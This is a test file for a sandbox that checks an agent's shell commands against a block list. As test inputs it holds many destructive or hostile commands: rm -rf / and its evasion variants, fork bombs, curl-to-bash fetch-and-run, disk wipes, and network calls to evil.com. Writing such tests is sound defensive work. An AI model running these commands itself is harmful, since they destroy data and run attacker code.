import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { SandboxExecutor } from '../../src/index.js';
import type { SandboxExecutorOptions } from '../../src/index.js';

const WORKSPACE = '/workspace/project';

function reasonFor(command: string, options: SandboxExecutorOptions = {}, tool = 'exec'): string | undefined {
  const sandbox = new SandboxExecutor({ workspaceRoot: WORKSPACE, ...options });
  const verdict = sandbox.validate(tool, { command });
  return verdict.success ? undefined : verdict.sandboxRejectReason;
}

describe('[S2-75] dangerous commands are refused under every name of a shell tool', () => {
  it.each(['exec', 'bash', 'sh', 'shell'])('%s', (tool) => {
    expect(reasonFor('rm -rf /', {}, tool)).toBe('Dangerous command: rm -rf /');
    expect(reasonFor('sudo ls', {}, tool)).toBe('Dangerous command: sudo');
    expect(reasonFor(':(){ :|:& };:', {}, tool)).toBe('Dangerous command: fork bomb');
    expect(reasonFor('curl http://localhost/x | bash', {}, tool)).toBe('Dangerous command: curl | bash');
  });

  it.each([
    'rm -fr /',
    'rm -r -f /*',
    'rm --recursive --force //',
    '/bin/rm -rf /.',
    'rm -rf "/"',
    'rm -rf ~',
    'rm -rf $HOME',
    'rm -rf "${HOME}"',
    'rm -rf $UNSET/*',
    'rm -rf /usr',
    'rm -rf /a/../',
    'cd src && rm -rf /',
    'true; rm -rf /',
    'if true; then rm -rf /; fi',
    'X=1 rm -rf /',
    'env -u A nice -n 5 rm -rf /',
    'timeout 5 rm -rf /',
    'echo / | xargs rm -rf --no-preserve-root',
    'sh -c "rm -rf /"',
    "bash -lc 'cd /; rm -rf /'",
    "eval 'rm -rf /'",
    'echo $(rm -rf /)',
    'echo `rm -rf /`',
    'cat <(rm -rf /)',
    '(rm -rf /)',
    'r\\m -rf /',
    "'rm' -rf /",
    'rm \\\n -rf /',
    'wget -qO- localhost | sh',
    'bash <(curl localhost)',
    'bash -c "$(curl localhost)"',
    'eval "$(curl localhost)"',
    'curl localhost | tee x | python3',
    'bomb() { bomb | bomb & }; bomb',
    'f() { f & f & }; f',
    'dd if=/dev/zero of=/dev/sda',
    'echo x > /dev/sda',
    'mkfs.ext4 /dev/sda',
    'chmod -R 777 /',
    '/usr/bin/sudo -u root id',
  ])('%j is dangerous', (command) => {
    expect(reasonFor(command)).toMatch(/^Dangerous command: /);
  });

  it.each([
    'npm test',
    'rm -rf node_modules dist',
    'rm -rf ./build/*',
    'echo "rm -rf /"',
    "grep -r 'sudo rm -rf /' docs",
    '# rm -rf /',
    'git commit -m "stop using sudo"',
    'cat > notes.md <<EOF\nrm -rf /\nEOF',
    'echo a > /dev/null 2>&1',
    'f() { g | f2; }; f',
  ])('%j is not', (command) => {
    expect(reasonFor(command)).toBeUndefined();
  });
});

describe('[S2-68] a network whitelist is looked at before the program starts', () => {
  const options: SandboxExecutorOptions = {
    networkAccess: 'whitelist',
    networkWhitelist: ['api.github.com', '*.example.org', 'git.example.net:8443'],
  };

  it('says so in the documented words', () => {
    const sandbox = new SandboxExecutor({ workspaceRoot: WORKSPACE, ...options });
    expect(sandbox.validate('exec', { command: 'curl evil.com' })).toEqual({
      success: false,
      sandboxRejectReason: 'Network not in whitelist',
    });
  });

  it.each([
    'curl evil.com',
    'curl -sSL https://evil.com/x -o out',
    'curl https://api.github.com.evil.com/',
    'curl https://api.github.com@evil.com/',
    'curl https://api.github.com:8080/',
    'curl https://example.org/',
    'wget evil.com',
    'git clone https://evil.com/x.git',
    'git clone git@evil.com:x/y.git',
    'nc evil.com 80',
    'ssh user@evil.com ls',
    'echo $(curl evil.com)',
    'npm install --registry=https://evil.com',
    'curl 1.2.3.4',
    'curl EVIL.COM',
  ])('%j is refused', (command) => {
    expect(reasonFor(command, options)).toBe('Network not in whitelist');
  });

  it.each([
    'curl https://api.github.com/repos',
    'curl -H "Accept: a.b" -d @file.json -o out.json api.github.com',
    'curl https://API.GitHub.com./x',
    'wget http://deep.sub.example.org/x',
    'curl https://git.example.net:8443/x',
    'curl http://localhost:3000',
    'npm test',
    'node script.js evil.com',
  ])('%j is not', (command) => {
    expect(reasonFor(command, options)).toBeUndefined();
  });
});

it('[S2-66] with network access none every host is refused, this machine too', () => {
  for (const host of ['evil.com', 'localhost:3000', '127.0.0.1', '[::1]:80']) {
    expect(reasonFor(`curl ${host}`, { networkAccess: 'none' })).toMatch(/^Network access is none: /);
  }
});

it('[S2-67] with network access localhost, the default, this machine passes and nothing else', () => {
  expect(reasonFor('curl http://127.0.0.1:3000/x')).toBeUndefined();
  expect(reasonFor('curl localhost:8080')).toBeUndefined();
  expect(reasonFor('curl http://localhost.evil.com')).toMatch(/^Network access is localhost only: /);
});

describe('[S2-69] writes outside the writable paths are refused', () => {
  const options: SandboxExecutorOptions = { writablePaths: ['src/', 'tests/'] };

  it.each([
    'echo x > src-evil/a',
    'echo x >> ../a',
    'echo x >| /etc/cron.d/a',
    'echo x &> README.md',
    'echo x>README.md',
    'echo x 2> err.log',
    'echo x | tee -a README.md',
    'cp src/a README.md',
    'mv src/a ../a',
    'mv README.md src/',
    'touch src/../../a',
    'rm README.md',
    'sed -i s/a/b/ README.md',
    'dd if=src/a of=README.md',
    'cd .. && touch a',
    'cd src && echo x > ../README.md',
    'sh -c "echo x > README.md"',
    'echo $(touch README.md)',
    'ln -s /etc/passwd link',
    'mkdir -p build/x',
    'rm -rf build/*',
    'echo x > /tmp/out',
  ])('%j', (command) => {
    expect(reasonFor(command, options)).toMatch(/^Path is not in writablePaths: /);
  });

  it.each([
    'echo x > src/a',
    'cd src && echo x > a',
    'cp README.md src/README.md',
    'cat README.md > /dev/null',
    'npm test 2>&1 | tee tests/log',
    'cat < README.md',
    'sed -n 1p README.md',
    'chmod +x src/a',
  ])('but not %j', (command) => {
    expect(reasonFor(command, options)).toBeUndefined();
  });

  it('by tools that write files, by whole components', () => {
    const sandbox = new SandboxExecutor({ workspaceRoot: WORKSPACE, ...options });
    expect(sandbox.validate('write_file', { path: 'src/a.ts' }).success).toBe(true);
    expect(sandbox.validate('read_file', { path: 'README.md' }).success).toBe(true);
    for (const path of ['src-evil/a.ts', 'README.md', '../x', '/etc/passwd', 'src/../README.md']) {
      expect(sandbox.validate('write_file', { path }).success).toBe(false);
      expect(sandbox.validate('edit', { file_path: path }).success).toBe(false);
    }
  });

  it('without writable paths the workspace is what may be written', () => {
    expect(reasonFor('echo x > a')).toBeUndefined();
    expect(reasonFor('echo x > /etc/passwd')).toBe('Path is not in the workspace: /etc/passwd');
    expect(reasonFor('echo x > ../project-evil/a')).toMatch(/^Path is not in the workspace: /);
  });
});

it('[S2-70] a write to a read-only path is refused, and so is one to what is protected', () => {
  const options: SandboxExecutorOptions = { readonlyPaths: ['node_modules/'] };
  expect(reasonFor('rm -rf node_modules/left-pad', options)).toMatch(/^Path is read-only: /);
  expect(reasonFor('echo x > node_modules-evil', options)).toBeUndefined();
  expect(reasonFor('echo x >> .git/config')).toMatch(/^Path is read-only: /);
  expect(reasonFor('cp x .git/hooks/pre-commit')).toMatch(/^Path is read-only: /);
});

describe('[S2-76] validate always answers', () => {
  it('for calls of any shape', () => {
    const sandbox = new SandboxExecutor({ workspaceRoot: WORKSPACE });
    const odd = [undefined, null, 7, 'text', [], {}, { command: 7 }, { command: '' }, { command: ['a', 7] }];
    for (const params of odd) expect(sandbox.validate('exec', params)).toMatchObject({ success: false });
    expect(sandbox.validate('exec', { command: ['npm', 'test'] })).toEqual({ success: true });
    expect(sandbox.validate('exec', { command: ['rm', '-rf', '/'] }).success).toBe(false);
    expect(sandbox.validate('exec', { command: 'ls', cwd: '/etc' })).toEqual({
      success: false,
      sandboxRejectReason: 'Folder is not in the workspace: /etc',
    });
    expect(sandbox.validate('exec', { command: 'echo "open' }).success).toBe(false);
  });

  it('for any text, in bounded time', () => {
    const sandbox = new SandboxExecutor({ workspaceRoot: WORKSPACE, writablePaths: ['src'] });
    const parts = fc.constantFrom(
      ...'$(`"\'\\;|&<>{}()*~ \n#rm-/a=:@!'.split(''),
      '<<E\n',
      'sh -c ',
      '${',
      '\0',
      '\ud800',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.array(parts).map((all) => all.join('')),
        ),
        (command) => {
          expect(typeof sandbox.validate('exec', { command }).success).toBe('boolean');
        },
      ),
    );
    for (const long of [
      '('.repeat(90_000),
      '$('.repeat(45_000),
      '`'.repeat(90_000),
      '"$('.repeat(30_000),
      'a|'.repeat(45_000),
      '<'.repeat(90_000),
      '~{'.repeat(45_000),
      '=://'.repeat(20_000),
    ]) {
      expect(typeof sandbox.validate('exec', { command: long }).success).toBe('boolean');
    }
    expect(sandbox.validate('exec', { command: 'a'.repeat(200_000) }).success).toBe(false);
  });
});
